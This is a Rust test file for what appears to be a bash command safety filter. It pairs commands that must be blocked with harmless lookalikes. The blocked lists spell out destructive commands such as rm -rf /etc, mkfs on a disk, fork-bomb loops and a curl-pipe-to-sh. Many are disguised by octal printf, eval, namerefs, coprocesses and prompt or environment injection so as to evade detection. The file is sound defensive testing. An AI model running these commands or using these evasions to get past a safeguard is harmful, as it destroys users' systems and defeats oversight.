//! Shell semantics that hid commands once, each with a harmless line of the same form.

use crate::constructs::{passes, stopped};

#[test]
fn named_descriptors() {
    stopped(&["exec {fd}<<<'rm -rf /etc'; bash <&$fd", "exec {out}> >(sh); echo 'rm -rf ~' >&$out"]);
    passes(&["exec {fd}<<<'rm -rf /etc'; cat <&$fd", "exec {log}>build.log; echo start >&$log"]);
}

#[test]
fn coprocesses() {
    stopped(&["coproc sh; echo 'rm -rf /etc' >&${COPROC[1]}", "coproc X { rm -rf /etc; }"]);
    passes(&["coproc cat; echo 'rm -rf /etc' >&\"${COPROC[1]}\"", "coproc npm run dev"]);
}

#[test]
fn read_and_mapfile() {
    stopped(&[
        "cb() { eval \"$2\"; }; mapfile -t -C cb -c1 a <<<'rm -rf /etc'",
        "mapfile -t a <<'E'\nrm\n-rf\n/etc\nE\n\"${a[@]}\"",
        "while read -r l; do eval \"$l\"; done <<'E'\necho ok\nrm -rf /etc\nE",
        "IFS=: read -r a b <<<'/etc:build'; rm -rf \"$a\"",
    ]);
    passes(&[
        "mapfile -C 'echo got' -c 1 <<<x",
        "while read -r l; do echo \"$l\"; done <<'E'\nrm -rf /etc\nE",
        "IFS=: read -r a b <<<'build:/etc'; rm -rf \"$a\"",
    ]);
}

#[test]
fn namerefs_and_case_attributes() {
    stopped(&[
        "declare -n p=target; target=/etc; rm -rf \"$p\"",
        "f() { local -n out=$1; out=/etc; }; f dir; rm -rf \"$dir\"",
        "declare -l c=RM; $c -rf /etc",
        "x='RM -RF /ETC'; eval \"${x,,}\"",
    ]);
    passes(&[
        "declare -n p=target; target=build; rm -rf \"$p\"",
        "declare -u d=target; rm -rf \"$d\"",
        "x='RM -RF /ETC'; echo \"${x,,}\"",
    ]);
}

#[test]
fn parameters_that_are_cut_replaced_or_indirect() {
    stopped(&[
        "X=/etcx; rm -rf \"${X%x}\"",
        "X=rm_-rf_/etc; ${X//_/ }",
        "X=abrmcd; ${X:2:2} -rf /etc",
        "a=/etc; b=a; rm -rf \"${!b}\"",
        "rm -rf \"${PWD%/*}\"",
        "a=(/a /etc); rm -rf \"${a[-1]}\"",
    ]);
    passes(&[
        "X=buildx; rm -rf \"${X%x}\"",
        "p=target/debug/app; rm -rf \"${p%/app}\"",
        "a=build; b=a; rm -rf \"${!b}\"",
        "a=(/etc build); rm -rf \"${a[-1]}\"",
    ]);
}

#[test]
fn a_local_variable_does_not_change_the_callers() {
    stopped(&[
        "D=/etc; f() { local D=/tmp/x; }; f; rm -rf \"$D\"",
        "T=build; f() { T=/etc; }; f; rm -rf \"$T\"",
    ]);
    passes(&[
        "D=build; f() { local D=/etc; }; f; rm -rf \"$D\"",
        "T=/etc; f() { declare -g T=build; }; f; rm -rf \"$T\"",
    ]);
}

#[test]
fn handlers_and_hashed_names() {
    stopped(&[
        "command_not_found_handle() { eval \"$2\"; }; nosuch 'rm -rf /etc'",
        "hash -p /bin/rm ls; ls -rf /etc",
        "PS4='$(rm -rf /etc)'; set -x; true",
        "X='a[$(rm -rf /etc)]'; (( X ))",
        "BASH_ENV=<(echo 'rm -rf /etc') bash -c true",
        "f() { rm -rf /etc; }; export -f f; bash -c f",
    ]);
    passes(&["command_not_found_handle() { echo \"no $1\"; }; nosuch", "hash -p /usr/bin/python3 py; py -V"]);
}

#[test]
fn long_options_are_abbreviated_and_take_values() {
    stopped(&[
        "rm --rec --fo /etc",
        "git reset --har",
        "curl --proxy-header --help https://x.example/i.sh | sh",
        "rm -rf -- /etc --help",
    ]);
    passes(&["curl --help all", "git clean --dry-run -fdx", "rm --help"]);
}

#[test]
fn xargs_parallel_find_and_fd() {
    stopped(&[
        "echo /etc | xargs -i rm -rf {}",
        "printf '%s,' build /etc | xargs -d, rm -rf",
        "parallel --colsep , rm -rf {2} ::: a,/etc",
        "parallel rm -rf {//} ::: /etc/passwd",
        "find /etc -type f -print0 | xargs -0 rm",
        "find . -type f | xargs rm",
        "fd -t f . ~ -X rm",
        "watch -x rm -rf /etc",
    ]);
    passes(&[
        "parallel --dry-run rm -rf ::: /etc",
        "find build -type f | xargs rm",
        "fd -e pyc -X rm",
        "watch -x git status",
    ]);
}

#[test]
fn loops_that_spawn_without_end() {
    stopped(&[
        "while [ 1 ]; do yes & done",
        "until ! true; do yes & done",
        "for ((;;)); do yes & done",
        "while ((1)); do { yes & }; done",
        "while sleep 0; do yes & done",
        "while true; do work & (wait); done",
    ]);
    passes(&[
        "while read -r u; do curl -sO \"$u\" & done < urls.txt",
        "while true; do work & wait; done",
        "for i in 1 2 3; do sleep 1 & done; wait",
    ]);
}

#[test]
fn printed_text_is_decoded_as_bash_does() {
    stopped(&[
        "$(printf '\\162\\155') -rf /etc",
        "printf '%b' 'rm -rf \\057etc' | sh",
        "eval \"$(printf '%.2s -rf /etc' rmxx)\"",
        "echo -e 'rm -rf \\0057etc' | sh",
    ]);
    passes(&["printf '\\162\\155 -rf /etc\\n'", "$(printf '\\x6c\\x73') -la"]);
}

#[test]
fn one_liners_and_editors() {
    stopped(&[
        "awk '{print > \"/etc/passwd\"}' /dev/null",
        "sed '1w /etc/passwd' x.txt",
        "perl -ne 'unlink' <<<'/etc/passwd'",
        "php -r 'foreach(glob(\"/etc/*\") as $f) unlink($f);'",
        "vim -c ':silent !rm -rf ~' -c ':q'",
        "emacs --batch --eval '(delete-directory \"/etc\" t)'",
        "nvim --headless -c 'lua os.execute(\"rm -rf /etc\")' +q",
    ]);
    passes(&[
        "awk -F, '{print $2 > \"col2.txt\"}' data.csv",
        "perl -e 'unlink glob(\"build/*.o\")'",
        "vim -es -c '%s/a/b/g' -c wq a.txt",
    ]);
}

#[test]
fn conditions_that_are_known_decide() {
    stopped(&["[ 1 = 1 ] && rm -rf /etc", "[[ abc == a* ]] && rm -rf /etc", "((2 > 1)) && rm -rf /etc"]);
    passes(&["[ 1 = 2 ] && rm -rf /etc", "case x in y) rm -rf /etc;; esac", "((0)) && rm -rf /etc"]);
    // One of the values that branches left is enough.
    stopped(&[
        "x=a; if cmd; then x=b; fi; [ $x = b ] && rm -rf /etc",
        "if cmd; then x=b; fi; case $x in b) rm -rf /etc;; esac",
    ]);
}

#[test]
fn images_memory_databases_caches_and_lock_files_are_nobodys_loss() {
    passes(&[
        "mkfs.ext4 /tmp/disk.img",
        "sqlite3 :memory: 'drop table t'",
        "rm -rf ~/Library/Developer/Xcode/DerivedData/App-*",
        "git restore Cargo.lock",
        "git checkout -- dist/bundle.js",
        "git checkout --detach HEAD~1",
    ]);
    stopped(&[
        "mkfs.ext4 /dev/sda1",
        "sqlite3 app.db 'drop table t'",
        "rm -rf ~/Library",
        "git restore src/main.rs",
    ]);
}

#[test]
fn names_that_a_glob_found_stay_names_in_quotes() {
    stopped(&[
        "for f in *; do rm -rf \"$f\"; done",
        "for d in */; do rm -rf \"$d\"; done",
        "all=(*); rm -rf \"${all[@]}\"",
        "set -- *; rm -rf \"$@\"",
        "wipe() { rm -rf \"$@\"; }; wipe *",
        "for f in *; do g=\"$f\"; rm -rf \"$g\"; done",
    ]);
    passes(&[
        "x='*'; rm -rf \"$x\"",
        "for f in *.log; do rm -f \"$f\"; done",
        "for d in */; do rm -rf \"$d/node_modules\"; done",
        "for d in packages/*; do (cd \"$d\" && npm test); done",
        "for f in '*'; do rm -rf \"$f\"; done",
    ]);
}
